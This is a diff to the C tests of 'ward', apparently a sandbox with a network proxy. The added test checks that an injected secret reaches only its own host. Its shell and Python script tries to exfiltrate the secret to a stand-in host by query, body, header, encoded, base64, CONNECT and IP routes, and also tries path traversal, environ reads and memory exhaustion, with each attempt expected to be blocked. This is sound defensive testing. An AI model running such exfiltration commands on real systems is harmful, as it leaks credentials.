@@ -16,6 +16,7 @@
  *   /etc/hosts bind-mounted over with the names below, so that the proxy's
  *   resolver (which runs in the test process) sees them. */
 #include "harness.h"
+#include "ward/request.h"
 #include "ward/sandbox.h"
 
 #include <arpa/inet.h>
@@ -150,6 +151,29 @@ static void http_answer(int c, const char *tag)
 		len = snprintf(out, sizeof(out), "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n"
 				"Connection: close\r\n\r\n", snprintf(NULL, 0, "body %zu\n", got));
 		len += snprintf(out + len, sizeof(out) - (size_t)len, "body %zu\n", got);
+		if (write(c, out, (size_t)len) < 0)
+			_exit(1);
+		_exit(0);
+	}
+	if (strncmp(buf, "POST /echo ", 11) == 0) {
+		/* a Content-Length body: the head and the body back */
+		const char *cl = strcasestr(buf, "\r\ncontent-length:");
+		size_t want = cl ? strtoul(cl + 17, NULL, 10) : 0, got = n - (size_t)(end + 4 - buf);
+		char body[8192];
+
+		if (want >= sizeof(body))
+			_exit(1);
+		memcpy(body, end + 4, got);
+		while (got < want) {
+			ssize_t r = read(c, body + got, want - got);
+
+			if (r <= 0)
+				_exit(0);
+			got += (size_t)r;
+		}
+		len = snprintf(out, sizeof(out), "HTTP/1.1 200 OK\r\nConnection: close\r\n"
+				"Content-Length: %zu\r\n\r\n%s\n%.*s\n", strlen(buf) + got + 2, buf,
+				(int)got, body);
 		if (write(c, out, (size_t)len) < 0)
 			_exit(1);
 		_exit(0);
@@ -504,7 +528,7 @@ static void check_allowlist(enum ward_net_transport t)
 	ck_assert_str_eq(r->address, UPSTREAM);
 	ck_assert_int_eq(r->port, 80);
 	ck_assert(r->bytes_up > 0 && r->bytes_down > 0);
-	ck_assert_int_eq(r->status, 0);
+	ck_assert_int_eq(r->status, 200); /* the upstream's */
 	r = find(&res, "GET", "example.com");
 	ck_assert_str_eq(r->decision, "deny");
 	ck_assert_str_eq(r->rule, "example.com not on the allowlist");
@@ -792,6 +816,180 @@ START_TEST(test_credential_injection)
 		ck_assert_int_eq(ward_run(&cfg, argv, &res, &err), 0);
 		ck_assert_ptr_nonnull(res.error);
 		ck_assert_msg(strstr(res.error->message, "'WARD_TEST_TOKEN' is not set"), "%s",
+			      res.error->message);
+		ck_assert(!res.started);
+	}
+	ward_result_release(&res);
+	ward_config_release(&cfg);
+	world_down();
+}
+END_TEST
+
+/* --secret and --allow-request through the real proxy: the stand-in
+ * replaced towards its host only (request line, header, body), refused to
+ * any other host in every form and place tried, the request rules with
+ * their ambiguous paths, the records. */
+START_TEST(test_secrets_and_rules)
+{
+	struct ward_config cfg;
+	struct ward_result res;
+	const struct ward_net_record *r;
+	struct ward_error *err = NULL;
+	json_t *o;
+
+	world_up(false);
+	setenv("WARD_TEST_SECRET", "real-7f3a9c", 1);
+	net_config(&cfg, WARD_NET_TRANSPORT_AUTO);
+	allow(&cfg, false, "other.example.net");
+	allow(&cfg, false, "tls.example.com:8443");
+	ck_assert_int_eq(ward_netpolicy_add_secret(&cfg.netpolicy, "WARD_TEST_SECRET=www.example.com",
+						   &err), 0);
+	ck_assert_int_eq(ward_netpolicy_add_request(&cfg.netpolicy, "www.example.com GET /ok/**",
+						    &err), 0);
+	ck_assert_int_eq(ward_netpolicy_add_request(&cfg.netpolicy, "www.example.com POST /echo",
+						    &err), 0);
+	run(&cfg,
+	    "S=$WARD_TEST_SECRET; c='curl -s -m 5 -o /dev/null -w %{http_code}'\n"
+	    "echo standin $(echo $S | cut -c1-10)\n"
+	    "curl -s -m 5 -H \"X-Key: $S\" \"http://www.example.com/ok/a?k=$S\"\n"
+	    "echo ---\n"
+	    "curl -s -m 5 -H 'Expect:' --data-binary \"{\\\"t\\\":\\\"$S\\\"}\" "
+	    "http://www.example.com/echo\n"
+	    "echo ---\n"
+	    "curl -s -m 5 --expect100-timeout 30 -H 'Expect: 100-continue' --data-binary "
+	    "\"k=$S\" http://www.example.com/echo | tail -1\n"
+	    "curl -s -m 5 -H 'Expect:' -H 'Transfer-Encoding: chunked' --data-binary \"c=$S\" "
+	    "http://www.example.com/echo | tail -1\n"
+	    "python3 - <<'EOF'\n"
+	    "import os, socket, time\n"
+	    "h, p = os.environ['HTTP_PROXY'][7:].split(':')\n"
+	    "body = ('x=' + os.environ['WARD_TEST_SECRET']).encode()\n"
+	    "s = socket.create_connection((h, int(p)))\n"
+	    "s.sendall(b'POST http://other.example.net/ HTTP/1.1\\r\\nContent-Length: %d\\r\\n\\r\\n'"
+	    " % len(body) + body[:20])\n"
+	    "time.sleep(0.3)\n"
+	    "s.sendall(body[20:])\n"
+	    "print('split', s.recv(100).split(b'\\r\\n')[0].decode())\n"
+	    "EOF\n"
+	    "echo leak $(curl -s -m 5 -w ' %{http_code}' \"http://other.example.net/?k=$S\")\n"
+	    "echo leakbody $($c -H 'Expect:' --data-binary \"x$S\" http://other.example.net/)\n"
+	    "echo leakheader $($c -H \"Cookie: a=$(echo $S | tr a-z A-Z)\" http://other.example.net/)\n"
+	    "enc=$(printf %s \"$S\" | od -An -tx1 | tr -d ' \\n' | sed 's/../%&/g')\n"
+	    "echo leakenc $($c \"http://other.example.net/?q=$enc\")\n"
+	    "echo leakb64 $($c -u \"me:$S\" http://other.example.net/)\n"
+	    "echo leakconnect $(curl -sk -m 5 -o /dev/null -w '%{http_connect}' "
+	    "--proxy-header \"X-T: $S\" https://tls.example.com:8443/)\n"
+	    "echo leakip $($c \"http://" UPSTREAM "/?k=$S\")\n"
+	    "echo rule $($c http://www.example.com/nope)\n"
+	    "echo dotdot $($c --path-as-is http://www.example.com/ok/../nope)\n"
+	    "echo encdot $($c --path-as-is http://www.example.com/ok/%2e%2e/nope)\n"
+	    "echo method $($c -X DELETE http://www.example.com/ok/a)\n"
+	    "(env; cat /proc/*/environ 2>/dev/null) | grep -c real-7f3a9c\n",
+	    &res);
+	has_line(res.output, "standin wardsecret");
+	has_line(res.output, "GET /ok/a?k=real-7f3a9c HTTP/1.1");
+	has_line(res.output, "X-Key: real-7f3a9c");
+	has_line(res.output, "{\"t\":\"real-7f3a9c\"}");
+	has_line(res.output, "Content-Length: 19"); /* the real value's, not the stand-in's */
+	has_line(res.output, "k=real-7f3a9c"); /* the proxy said 100 Continue itself */
+	has_line(res.output, "c=real-7f3a9c"); /* chunked in, one Content-Length out */
+	has_line(res.output, "split HTTP/1.1 403 Forbidden"); /* the stand-in across two reads */
+	has_line(res.output, "leak ward proxy: secret WARD_TEST_SECRET carried to other.example.net, "
+			     "not one of its hosts 403");
+	has_line(res.output, "leakbody 403");
+	has_line(res.output, "leakheader 403");
+	has_line(res.output, "leakenc 403");
+	has_line(res.output, "leakb64 403");
+	has_line(res.output, "leakconnect 403");
+	has_line(res.output, "leakip 403");
+	has_line(res.output, "rule 403");
+	has_line(res.output, "dotdot 403");
+	has_line(res.output, "encdot 403");
+	has_line(res.output, "method 403");
+	ck_assert_msg(strstr(res.output, "\n0\n"), "the real value is inside:\n%s", res.output);
+	r = find(&res, "GET", "www.example.com");
+	ck_assert_str_eq(r->decision, "allow");
+	ck_assert_str_eq(r->request_rule, "allow-request www.example.com GET /ok/**");
+	ck_assert_str_eq(r->secrets, "WARD_TEST_SECRET");
+	ck_assert_str_eq(r->path, "/ok/a?k=*");
+	ck_assert_int_eq(r->status, 200);
+	{
+		/* the result's JSON carries them too */
+		char *js = ward_result_to_json(&res);
+
+		o = json_loads(js, 0, NULL);
+		free(js);
+		ck_assert_ptr_nonnull(o);
+		json_t *net = json_object_get(o, "network"), *rec;
+		size_t i;
+		bool seen = false;
+
+		json_array_foreach(net, i, rec) {
+			if (strcmp(json_string_value(json_object_get(rec, "method")), "GET") ||
+			    strcmp(json_string_value(json_object_get(rec, "host")), "www.example.com"))
+				continue;
+			ck_assert_str_eq(json_string_value(json_array_get(
+						 json_object_get(rec, "secrets"), 0)),
+					 "WARD_TEST_SECRET");
+			ck_assert_str_eq(json_string_value(json_object_get(rec, "path")), "/ok/a?k=*");
+			ck_assert_str_eq(json_string_value(json_object_get(rec, "request_rule")),
+					 "allow-request www.example.com GET /ok/**");
+			seen = true;
+			break;
+		}
+		ck_assert_msg(seen, "no record in the JSON");
+		json_decref(o);
+	}
+	r = find(&res, "GET", "other.example.net");
+	ck_assert_str_eq(r->decision, "deny");
+	ck_assert_str_eq(r->secrets, "WARD_TEST_SECRET");
+	ck_assert_int_eq(r->status, 403);
+	ck_assert(!strstr(r->rule, "real-7f3a9c"));
+	r = find(&res, "CONNECT", "tls.example.com");
+	ck_assert_str_eq(r->decision, "deny");
+	ck_assert_str_eq(r->secrets, "WARD_TEST_SECRET");
+	r = find(&res, "DELETE", "www.example.com");
+	ck_assert_msg(strstr(r->rule, "DELETE /ok/a matches no --allow-request rule"), "%s",
+		      r->rule);
+	for (size_t i = 0; i < res.n_net_records; i++)
+		ck_assert(!strstr(res.net_records[i].rule, "real-7f3a9c") &&
+			  !strstr(res.net_records[i].path, "real-7f3a9c"));
+	ward_result_release(&res);
+
+	/* bodies held whole are held within a budget: 17 unfinished bodies of
+	 * 1000000 bytes, the 17th is past 16 MiB */
+	run(&cfg,
+	    "python3 - <<'EOF'\n"
+	    "import os, socket\n"
+	    "h, p = os.environ['HTTP_PROXY'][7:].split(':')\n"
+	    "head = b'POST http://www.example.com/echo HTTP/1.1\\r\\nContent-Length: 1048576\\r\\n\\r\\n'\n"
+	    "socks = []\n"
+	    "for i in range(17):\n"
+	    "    s = socket.create_connection((h, int(p)))\n"
+	    "    s.sendall(head)\n"
+	    "    try:\n"
+	    "        s.sendall(b'x' * 1000000)\n"
+	    "    except OSError:\n"
+	    "        pass\n"
+	    "    socks.append(s)\n"
+	    "print('last', socks[-1].recv(100).split(b'\\r\\n')[0].decode())\n"
+	    "EOF\n",
+	    &res);
+	has_line(res.output, "last HTTP/1.1 503 Service Unavailable");
+	ward_result_release(&res);
+	ward_config_release(&cfg);
+
+	/* a secret whose variable ward lacks fails before anything runs */
+	unsetenv("WARD_TEST_SECRET");
+	net_config(&cfg, WARD_NET_TRANSPORT_AUTO);
+	ck_assert_int_eq(ward_netpolicy_add_secret(&cfg.netpolicy, "WARD_TEST_SECRET=www.example.com",
+						   &err), 0);
+	{
+		char *argv[] = { (char *)"/bin/true", NULL };
+
+		ck_assert_int_eq(ward_run(&cfg, argv, &res, &err), 0);
+		ck_assert_ptr_nonnull(res.error);
+		ck_assert_msg(strstr(res.error->message, "'WARD_TEST_SECRET' is not set"), "%s",
 			      res.error->message);
 		ck_assert(!res.started);
 	}
@@ -1108,6 +1306,7 @@ int main(void)
 	tcase_add_test(tc, test_bypass);
 	tcase_add_test(tc, test_private_destinations);
 	tcase_add_test(tc, test_credential_injection);
+	tcase_add_test(tc, test_secrets_and_rules);
 	tcase_add_test(tc, test_concurrent);
 	tcase_add_test(tc, test_nothing_left_behind);
 	tcase_add_test(tc, test_modes_cli);
